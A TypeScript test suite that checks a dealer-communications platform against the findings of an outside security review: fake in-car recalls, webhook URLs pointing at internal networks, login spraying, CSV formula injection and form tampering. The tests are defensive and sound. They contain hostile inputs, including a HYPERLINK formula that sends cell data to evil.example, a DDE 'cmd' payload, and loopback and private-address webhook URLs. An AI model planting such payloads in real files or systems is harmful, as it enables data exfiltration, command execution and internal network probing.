// The outside security review (issue 29), finding by finding, against the real stack: each test
// tried the attack on the code before the fix and saw it work. Findings tested elsewhere: 2 (the
// guarded agent: test/unit/delivery-targets.test.ts), 5 and 7 (settings: test/unit/security-
// settings.test.ts), 6 (consent links: consent.test.ts), 8 in the browser (workspace.test.ts),
// 10 (bounds: test/unit/policy.test.ts).
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomInt, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../api/app.js';
import { logTransport, webhookTransport } from '../../communications/transports.js';
import { DAY, MINUTE } from '../../domain/policy.js';
import { createUserStore } from '../../platform/users.js';
import { journeyStateQuery } from '../../workflows/definitions.js';
import { ANY_HOUR_POLICY, apiCaller, createTestKey, eventually, silentLog, startSystem, type System } from '../support/system.js';
import { httpLogIn } from '../support/workspace-login.js';

let sys: System;
let gateway: Server;
/** What the SMS / in-car gateway received: the address each message went to. */
const delivered: { communicationId: string; channel: string; to: string }[] = [];
const tag = randomUUID().slice(0, 6).toUpperCase().replace(/[^0-9A-Z]/g, 'X');
const dealerId = `DLR-SR-${tag}`;
const otherDealer = `DLR-SO-${tag}`;
let dealerKey = '';
let otherKey = '';

beforeAll(async () => {
  gateway = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      delivered.push(JSON.parse(body));
      res.end('{}');
    });
  });
  await new Promise<void>((resolve) => gateway.listen(0, '127.0.0.1', resolve));
  const gatewayUrl = `http://127.0.0.1:${(gateway.address() as AddressInfo).port}/messages`;
  sys = await startSystem({ kinds: ['journeys', 'bulk'], journeyPolicy: { ...ANY_HOUR_POLICY, postPurchasePromotionCoolDownMs: 1_000 }, transports: { email: logTransport(silentLog), other: webhookTransport(gatewayUrl) } });
  for (const [id, territory] of [[dealerId, `SR${tag}`], [otherDealer, `SO${tag}`]] as const) {
    expect((await sys.api({ method: 'POST', url: '/v1/dealers', payload: { id, name: `Autohaus ${id}`, territory: [territory], brands: ['VW'] } })).statusCode).toBe(201);
  }
  dealerKey = await createTestKey(sys.db, 'DEALER', dealerId);
  otherKey = await createTestKey(sys.db, 'DEALER', otherDealer);
});
afterAll(async () => {
  await sys?.stop();
  await new Promise<void>((resolve) => gateway?.close(() => resolve()));
});

/** A customer who bought `vin` from `dealer` (US: opt-out law, so promotions need no prior opt-in). */
async function owner(dealer: string, key: string, territory: string, vin: string) {
  const res = await sys.api({
    method: 'POST', url: '/v1/leads',
    payload: { source: 'WEB_FORM', interest: { model: 'ID.7', timeframe: 'NOW' }, contact: { firstName: 'Ola', email: `ola.${randomUUID().slice(0, 8)}@example.com`, postalCode: `${territory}1`, country: 'US' } },
  });
  const { journeyId, customerId } = res.json();
  await eventually(async () => ((await sys.db.journey.findUnique({ where: { id: journeyId } }))?.offeredDealerId === dealer ? true : undefined));
  expect((await sys.api({ method: 'POST', url: `/v1/journeys/${journeyId}/accept` }, key)).statusCode).toBe(200);
  const sold = await sys.api({ method: 'POST', url: `/v1/journeys/${journeyId}/sale`, payload: { vehicle: { vin, model: 'ID.7', soldOn: '2026-11-20' } } }, key);
  expect(sold.statusCode, sold.body).toBe(200);
  await new Promise((r) => setTimeout(r, 1_100)); // the one-second post-purchase cool-down of this file's policy
  return { journeyId, customerId };
}

describe('finding 1: no message into a stranger\'s car', () => {
  it("a dealer cannot name the address: reserved variables are a 400, legal notices are the OEM's, in-car messages reach only the customer's own car", async () => {
    const mine = await owner(dealerId, dealerKey, `SR${tag}`, `WVWZZZE1ZPP${randomInt(100_000, 999_999)}`);
    const strangersVin = `WVWZZZE1ZPP${randomInt(100_000, 999_999)}`;
    await owner(otherDealer, otherKey, `SO${tag}`, strangersVin);
    const send = (body: object, key = dealerKey) => sys.api({ method: 'POST', url: `/v1/customers/${mine.customerId}/communications`, payload: body }, key);
    const before = await sys.db.communication.count({ where: { customerId: mine.customerId } });

    // The review's request: a fake recall with another customer's VIN, in the dealer's name.
    const fakeRecall = await send({ purpose: 'LEGAL', channel: 'IN_VEHICLE', templateId: 'recall-notice', variables: { recallCode: 'FAKE-1', vin: strangersVin } });
    expect(fakeRecall.statusCode).toBe(400);
    expect(fakeRecall.json().errors).toContainEqual({ field: 'variables.vin', message: expect.stringContaining('reserved') });
    // Without the VIN: still the OEM's alone.
    const recall = await send({ purpose: 'LEGAL', channel: 'IN_VEHICLE', templateId: 'recall-notice', variables: { recallCode: 'FAKE-1' } });
    expect(recall.statusCode).toBe(403);
    expect(recall.json().type).toMatch(/oem-only$/);
    // A recall text dressed as a promotion: refused too.
    expect((await send({ purpose: 'PROMOTION', channel: 'IN_VEHICLE', templateId: 'recall-notice', variables: { recallCode: 'FAKE-2' } })).json().errors[0].field).toBe('purpose');
    // Any reserved name, in any template.
    for (const name of ['vin', 'firstName', 'senderName', 'unsubscribeUrl']) {
      const res = await send({ purpose: 'PROMOTION', channel: 'EMAIL', templateId: 'model-launch', variables: { model: 'ID.7', offer: 'x', [name]: 'y' } });
      expect(res.statusCode, name).toBe(400);
      expect(res.json().errors[0].field).toBe(`variables.${name}`);
    }
    expect(await sys.db.communication.count({ where: { customerId: mine.customerId } })).toBe(before); // nothing half-written

    // The dealer's own in-car promotion goes to the customer's own car, from the sale on record.
    const promo = await send({ purpose: 'PROMOTION', channel: 'IN_VEHICLE', templateId: 'model-launch', variables: { model: 'ID.7', offer: 'winter tyres' } });
    expect(promo.json(), promo.body).toMatchObject({ decision: 'ALLOWED' });
    const ownCar = (await sys.db.sale.findFirstOrThrow({ where: { customerId: mine.customerId } })).vin;
    const out = await eventually(async () => delivered.find((d) => d.communicationId === promo.json().communicationId));
    expect(out).toMatchObject({ channel: 'IN_VEHICLE', to: ownCar });
    expect(delivered.some((d) => d.to === strangersVin && d.channel === 'IN_VEHICLE' && d.communicationId === promo.json().communicationId)).toBe(false);

    // The OEM's recall reaches the customer's own car.
    const oemRecall = await sys.api({ method: 'POST', url: `/v1/customers/${mine.customerId}/communications`, payload: { purpose: 'LEGAL', channel: 'IN_VEHICLE', templateId: 'recall-notice', variables: { recallCode: '97X1' } } });
    expect(oemRecall.json()).toMatchObject({ decision: 'ALLOWED' });
    expect(await eventually(async () => delivered.find((d) => d.communicationId === oemRecall.json().communicationId))).toMatchObject({ to: ownCar });
  });
});

describe('finding 2: webhooks to our own network', () => {
  it('outside development a webhook URL on this machine or in a private network is a 400 naming it', async () => {
    const app = await buildApp({ db: sys.db, temporal: sys.temporal, log: silentLog, taskQueue: sys.taskQueue }); // no webhookTargets: closed
    try {
      const put = (url: string) => apiCaller(app, sys.oemKey)({ method: 'PUT', url: `/v1/dealers/${dealerId}/delivery`, payload: { webhookUrl: url, adfEmail: null } });
      for (const url of ['http://localhost:4000/hook', 'http://127.0.0.1:4000/hook', 'http://[::1]:4000/hook', 'https://127.0.0.1/hook', 'https://[64:ff9b::a00:1]/hook', 'https://198.18.0.1/hook', 'https://240.0.0.1/hook', 'http://crm.example/hook']) {
        const res = await put(url);
        expect(res.statusCode, url).toBe(400);
        expect(res.json().errors[0].field, url).toBe('webhookUrl');
      }
      expect((await put('https://crm.autohaus.example/l2l')).statusCode).toBe(200);
    } finally {
      await app.close();
    }
    // The dev stack (startSystem) takes a developer's listener.
    expect((await sys.api({ method: 'PUT', url: `/v1/dealers/${dealerId}/delivery`, payload: { webhookUrl: 'http://localhost:4000/hook', adfEmail: null } })).statusCode).toBe(200);
  });
});

describe('finding 3: limits that hold', () => {
  const limited = () => buildApp({ db: sys.db, temporal: sys.temporal, log: silentLog, taskQueue: sys.taskQueue, rateLimit: { max: 1_000, windowMs: 60_000, anonymousMax: 5 } });
  const madeUp = () => `l2l_${randomUUID().replace(/-/g, '').slice(0, 12)}_${randomUUID().replace(/-/g, '')}`;

  it('made-up keys, one made-up key, no key: 429 after the address\'s budget, counted before any look-up', async () => {
    for (const [label, keyFor, address] of [
      ['a different made-up key each time', madeUp, '203.0.113.10'],
      ['one made-up key', ((k) => () => k)(madeUp()), '203.0.113.11'],
      ['no key', () => null, '203.0.113.12'],
    ] as const) {
      const app = await limited();
      try {
        const statuses: number[] = [];
        for (let i = 0; i < 12; i++) {
          const key = keyFor();
          statuses.push((await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: address, headers: key ? { authorization: `Bearer ${key}` } : {} })).statusCode);
        }
        expect(statuses, label).toEqual([401, 401, 401, 401, 401, ...Array(7).fill(429)]);
        const last = await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: address });
        expect(last.headers['retry-after'], label).toBeDefined();
        expect(last.json().type).toMatch(/rate-limited$/);
        // Another address has its own budget; an IPv6 client's whole /64 shares one.
        expect((await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: '203.0.113.99' })).statusCode).toBe(401);
      } finally {
        await app.close();
      }
    }
    const app = await limited();
    try {
      const v6 = (suffix: string) => app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: `2001:db8:77:1::${suffix}` });
      for (let i = 1; i <= 5; i++) expect((await v6(String(i))).statusCode).toBe(401);
      expect((await v6('ffff')).statusCode).toBe(429);
    } finally {
      await app.close();
    }
  });

  it('a good key is counted per key, and is not shut out by strangers at its address', async () => {
    const app = await limited();
    try {
      const address = '203.0.113.20';
      expect((await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: address, headers: { authorization: `Bearer ${sys.oemKey}` } })).statusCode).toBe(200);
      for (let i = 0; i < 8; i++) await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: address, headers: { authorization: `Bearer ${madeUp()}` } });
      expect((await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: address })).statusCode).toBe(429);
      expect((await app.inject({ method: 'GET', url: '/v1/dealers', remoteAddress: address, headers: { authorization: `Bearer ${sys.oemKey}` } })).statusCode).toBe(200);
    } finally {
      await app.close();
    }
  });

  it('logins: per address (20 a minute), and a login name paused from one address stays open from another', async () => {
    const users = createUserStore(sys.db);
    const email = `spray.${tag.toLowerCase()}@a.example`;
    await users.create({ email, name: 'Sam Spray', role: 'SALESPERSON', dealerId, password: 'correct horse battery staple', mustChangePassword: false });
    const inject: Parameters<typeof httpLogIn>[0] = (o) => sys.app.inject(o);
    // A guesser at one address: five failures pause that name there…
    for (let i = 0; i < 5; i++) expect((await httpLogIn(inject, email, `guess ${i} wrong wrong`, '198.51.100.7')).first.statusCode).toBe(401);
    expect((await httpLogIn(inject, email, 'correct horse battery staple', '198.51.100.7')).first.statusCode).toBe(401);
    // …and the person at their own address still gets in (nobody can lock them out from elsewhere).
    expect((await httpLogIn(inject, email, 'correct horse battery staple', '198.51.100.8')).first.statusCode).toBe(303);
    // A name nobody has behaves exactly the same: five failures, then the same answer.
    const nobody = `nobody.${tag.toLowerCase()}@a.example`;
    const answers = [];
    for (let i = 0; i < 6; i++) answers.push((await httpLogIn(inject, nobody, 'correct horse battery staple', '198.51.100.9')).first);
    expect(answers.map((a) => a.statusCode)).toEqual([401, 401, 401, 401, 401, 401]);
    expect(new Set(answers.map((a) => /role="alert">([^<]+)</.exec(a.body)![1]))).toEqual(new Set([/role="alert">([^<]+)</.exec(answers[0]!.body)![1]]));
    // Spraying from one address: after 20 attempts a minute the login form answers 429 before any password is checked.
    const spray = [];
    for (let i = 0; i < 22; i++) spray.push((await httpLogIn(inject, `n${i}.${tag.toLowerCase()}@a.example`, 'password spray 2026', '198.51.100.50')).first.statusCode);
    expect(spray.slice(0, 20).every((s) => s === 401)).toBe(true);
    expect(spray.slice(20)).toEqual([429, 429]);
  });
});

describe('finding 4: exports that cannot run formulas', () => {
  it('a lead\'s model that is a formula is written as text in the scorecard CSV', async () => {
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"${tag}")`;
    expect((await sys.api({ method: 'POST', url: '/v1/leads', payload: { source: 'WEB_FORM', interest: { model: formula }, contact: { email: `f.${randomUUID().slice(0, 8)}@example.com` } } })).statusCode).toBe(202);
    const today = new Date().toISOString().slice(0, 10);
    await eventually(async () => {
      const csv = (await sys.api({ method: 'GET', url: `/v1/reports/scorecard.csv?from=${today}&to=${today}&groupBy=model` })).body;
      return csv.includes(tag) ? csv : undefined;
    }).then((csv) => {
      const cells = csv.split('\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
      expect(cells.filter((c) => c.includes(tag)).every((c) => c.startsWith("'="))).toBe(true);
      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
    });
  });

  it('import rejections are written by the same writer: no cell starts a formula', async () => {
    const file = 'email;newsletter;consent wording\n=cmd|\' /C calc\'!A0;-maybe;@w\nnot-an-address;yes;w1\n';
    const res = await sys.api({ method: 'POST', url: `/v1/imports?event=${encodeURIComponent(`=evil ${tag}`)}&date=2026-09-09`, payload: file, headers: { 'content-type': 'text/csv' } });
    expect(res.statusCode, res.body).toBe(202);
    const { importId } = res.json().import;
    await eventually(async () => ((await sys.api({ method: 'GET', url: `/v1/imports/${importId}` })).json().status === 'COMPLETED' ? true : undefined), 30_000);
    const apiCsv = (await sys.api({ method: 'GET', url: `/v1/imports/${importId}/rejections` })).body;
    expect(apiCsv.trim().split('\n')).toHaveLength(3); // the header and both rows
    for (const line of apiCsv.trim().split('\n')) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('finding 9: public forms add nothing to a known customer', () => {
  it("a stranger's form with a known e-mail and their own phone leaves the customer's record as it was", async () => {
    const email = `known.${randomUUID().slice(0, 8)}@example.com`;
    const first = await sys.api({ method: 'POST', url: '/v1/leads', payload: { source: 'WEB_FORM', contact: { email } } });
    const { customerId } = first.json();
    const formKey = (await sys.api({ method: 'POST', url: '/v1/form-keys', payload: { name: `site ${tag}`, allowedOrigins: ['https://www.example-oem.com'], wordingIds: ['web-2026'] } })).json();
    const attack = await sys.app.inject({
      method: 'POST', url: `/v1/forms/${formKey.key}/leads`, headers: { origin: 'https://www.example-oem.com' },
      payload: { email, phone: '+4915112345678', firstName: 'Mallory', postalCode: '99999', consents: [{ channel: 'SMS', purpose: 'MARKETING', granted: true, wordingId: 'web-2026' }] },
    });
    expect(attack.statusCode, attack.body).toBe(202);
    await eventually(async () => ((await sys.db.lead.count({ where: { customerId } })) === 2 ? true : undefined));
    expect(await sys.db.customer.findUniqueOrThrow({ where: { id: customerId } })).toMatchObject({ emailNormalized: email, phoneE164: null, firstName: null, postalCode: null });
    // The text-marketing consent waits for the number's holder; no number on record, so it never comes into force.
    const state = await eventually(async () => {
      const s = await sys.temporal.workflow.getHandle(`journey-${customerId}`).query(journeyStateQuery);
      return s.leadCount === 2 ? s : undefined;
    });
    expect(state.consent?.granted ?? []).not.toContain('SMS:MARKETING');
  });
});

describe('finding 10: policy bounds and a dry run first', () => {
  it('the review\'s policy is refused naming each setting; a dry run reports the reach and stores nothing', async () => {
    const change = (body: object) => sys.api({ method: 'POST', url: '/v1/journey-policy/versions', payload: body });
    const before = await sys.db.journeyPolicyVersion.count();
    for (const [setting, value] of [['handoffAcceptanceSlaMs', 0.5], ['handoffAcceptanceSlaMs', 0.00006], ['postPurchasePromotionCoolDownMs', 1e-300], ['complaintBackstopMs', 325], ['qualifyThreshold', 96.83], ['salesWindowMs', 2 * DAY + 1]] as const) {
      const res = await change({ changes: { [setting]: value }, reason: 'fuzz', applyToRunningJourneys: true });
      expect(res.statusCode, `${setting}=${value}`).toBe(400);
      expect(res.json().errors[0].field).toBe(`changes.${setting}`);
    }
    const contradiction = await change({ changes: { salesWindowMs: 2 * DAY }, reason: 'shorter than the chase grace' });
    expect(contradiction.json().errors[0]).toMatchObject({ field: 'changes.salesWindowMs', message: expect.stringContaining('chase grace') });

    const dry = await change({ changes: { handoffAcceptanceSlaMs: 30 * MINUTE }, reason: 'faster hand-offs', applyToRunningJourneys: true, dryRun: true });
    expect(dry.statusCode, dry.body).toBe(200);
    expect(dry.json()).toMatchObject({
      dryRun: true, policy: { handoffAcceptanceSlaMs: 30 * MINUTE },
      impact: { runningJourneys: expect.any(Number), deadlinesAlreadySet: 'kept', settings: [{ setting: 'handoffAcceptanceSlaMs', to: 30 * MINUTE, stages: ['QUALIFYING', 'HANDED_OFF'], journeys: expect.any(Number) }] },
    });
    const running = await sys.db.journey.count({ where: { stage: { not: 'ERASED' } } });
    expect(dry.json().impact.runningJourneys).toBe(running);
    expect(await sys.db.journeyPolicyVersion.count()).toBe(before);
  });
});
